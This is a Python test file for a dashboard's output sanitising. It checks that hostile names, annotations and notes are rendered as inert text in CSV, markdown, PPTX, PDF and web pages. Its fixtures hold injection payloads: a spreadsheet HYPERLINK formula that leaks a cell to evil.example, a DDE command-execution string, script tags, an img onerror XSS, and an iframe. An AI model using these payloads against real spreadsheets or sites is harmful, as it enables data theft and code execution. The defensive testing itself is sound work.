"""Hostile text from sources and users: formula cells in every CSV we write, and HTML, scripts
and markdown in team and group names, annotations and notes, which every page, chart and
export shows as the text it is."""
from __future__ import annotations

import csv
import io
import json
from datetime import date

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from pptx import Presentation
from streamlit.testing.v1 import AppTest

from dashboard import report
from dashboard.core import notes, safe_text
from dashboard.core.config import Settings
from dashboard.core.store import Store
from tests.app.test_pages import APP, assert_clean
from tests.conftest import DEMO_TODAY, page_file

SCRIPT = '<script>alert("pwned")</script>'
GROUP = f'=HYPERLINK("http://evil.example/?leak="&A1,"Growth") {SCRIPT} **bold** [link](javascript:alert(1)) $x$ :red[red]'
TEAM = "+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> __Payments__"
ANNOTATION = f"-2+3 <b>launch</b> {SCRIPT}"
NOTE = f"@SUM(1+1) <iframe src=//evil.example></iframe> {SCRIPT}"
QUARTER = date(2026, 7, 1)
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_a_csv_cell_that_starts_like_a_formula_is_neutralised_and_nothing_else_changes():
    frame = pd.DataFrame({
        "text": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a=b", None],
        "number": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9],
    }).rename(columns={"text": "=name"})
    rows = list(csv.reader(io.StringIO(safe_text.csv_bytes(frame).decode(), newline="")))
    assert rows[0] == ["'=name", "number"]
    assert [row[0] for row in rows[1:]] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "a=b", ""]
    assert rows[1][1] == "-1.5"


def test_markdown_and_plotly_text_render_as_typed():
    rendered = MarkdownIt("commonmark").render(safe_text.markdown(GROUP))
    assert "<script" not in rendered and "<strong>" not in rendered and "<a " not in rendered
    assert "&lt;script&gt;" in rendered and "**bold**" in rendered and "$x$" in rendered
    assert safe_text.html_text(ANNOTATION) == "-2+3 &lt;b&gt;launch&lt;/b&gt; &lt;script&gt;alert(\"pwned\")&lt;/script&gt;"


@pytest.fixture(scope="module")
def hostile(databases, demo_db, tmp_path_factory) -> dict:
    """A copy of the demo organisation whose first group and first team have hostile names,
    with a hostile annotation and a hostile QBR note."""
    location = databases.copy(demo_db, tmp_path_factory.mktemp("hostile"), "hostile")
    store = Store(location)
    teams = store.table("teams").sort_values("team_id")
    group = teams["group_name"].iloc[0]
    team_id = teams.loc[teams["group_name"] == group, "team_id"].iloc[0]
    with store.transaction() as tx:
        tx.execute("UPDATE teams SET group_name = ? WHERE group_name = ?", [GROUP, group])
        tx.execute("UPDATE teams SET name = ? WHERE team_id = ?", [TEAM, team_id])
    notes.add_annotation(store, date(2026, 8, 3), "org", ANNOTATION)
    notes.save_qbr_note(store, "2026Q3", GROUP, "scorecard", NOTE)
    return {"location": location, "team_id": team_id}


@pytest.fixture(scope="module")
def files(hostile) -> dict[str, bytes]:
    built = report.build_from_store(Store(hostile["location"]), Settings(), QUARTER, "group", GROUP, DEMO_TODAY)
    return {fmt: report.render(built, fmt, pictures={}) for fmt in ("csv", "md", "pptx", "pdf")}


def test_the_report_csv_carries_the_hostile_group_as_inert_text(files):
    frame = pd.read_csv(io.BytesIO(files["csv"]), dtype=str, keep_default_na=False)
    hostile = frame[frame["scope_id"].str.contains("HYPERLINK")]
    assert len(hostile) and (hostile["scope_id"] == "'" + GROUP).all()
    cells = frame.to_numpy().ravel()
    assert not [cell for cell in cells if cell.startswith(FORMULA) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_markdown_report_shows_html_and_scripts_as_text(files):
    text = files["md"].decode()
    rendered = MarkdownIt("commonmark", {"html": True}).render(text)
    assert "<script" not in rendered and "<iframe" not in rendered and "<img" not in rendered
    assert "&lt;script&gt;" in text and "&lt;iframe src=//evil.example&gt;" in text


def test_pptx_and_pdf_hold_the_text_and_nothing_that_runs_or_links(files):
    deck = Presentation(io.BytesIO(files["pptx"]))
    shown = " ".join(shape.text_frame.text for slide in deck.slides for shape in slide.shapes if shape.has_text_frame)
    assert SCRIPT in shown and GROUP.split(" ")[0] in shown
    assert not [r for slide in deck.slides for r in slide.part.rels.values() if r.is_external]
    assert b"/JavaScript" not in files["pdf"] and b"/URI" not in files["pdf"] and b"/Launch" not in files["pdf"]


def open_page(hostile, monkeypatch, page: str, **params: str) -> AppTest:
    monkeypatch.setenv("PRODOPS_DB", hostile["location"])
    monkeypatch.setenv("PRODOPS_TODAY", DEMO_TODAY.isoformat())
    monkeypatch.delenv("PRODOPS_CONFIG", raising=False)
    at = AppTest.from_file(APP, default_timeout=120)
    for name, value in params.items():
        at.query_params[name] = value
    at.run()
    return at.switch_page(page).run()


def rendered_text(at: AppTest) -> str:
    """Every markdown body on the page (captions, headings, markdown) as HTML, the way CommonMark renders it."""
    parser = MarkdownIt("commonmark", {"html": True})
    bodies = [element.value for kind in ("caption", "markdown", "subheader", "title") for element in at.get(kind)]
    return "\n".join(parser.render(str(body)) for body in bodies)


def test_pages_show_hostile_names_annotations_and_notes_as_text(hostile, monkeypatch):
    at = open_page(hostile, monkeypatch, page_file("overview.py"), group=GROUP, team=hostile["team_id"])
    assert_clean(at, "overview with hostile names")
    html = rendered_text(at)
    assert "<script" not in html and "<img" not in html and "<strong>bold" not in html and 'href="javascript' not in html
    assert "&lt;img src=x onerror=alert(1)&gt; __Payments__" in html

    figures = [json.loads(chart.proto.spec) for chart in at.get("plotly_chart")]
    labels = [str(item.get(key, "")) for figure in figures for item in figure["layout"].get("annotations", []) for key in ("text", "hovertext")]
    names = [trace.get("name", "") for figure in figures for trace in figure["data"]]
    assert any("&lt;script&gt;" in label for label in labels) and not any("<script" in label or "<b>" in label for label in labels)
    assert safe_text.html_text(TEAM) in names and not any("<img" in name for name in names)


def test_the_qbr_page_shows_the_hostile_note_and_group_as_text(hostile, monkeypatch):
    at = open_page(hostile, monkeypatch, page_file("qbr.py"), group=GROUP)
    assert_clean(at, "qbr with hostile names")
    html = rendered_text(at)
    assert "<script" not in html and "<strong>bold" not in html
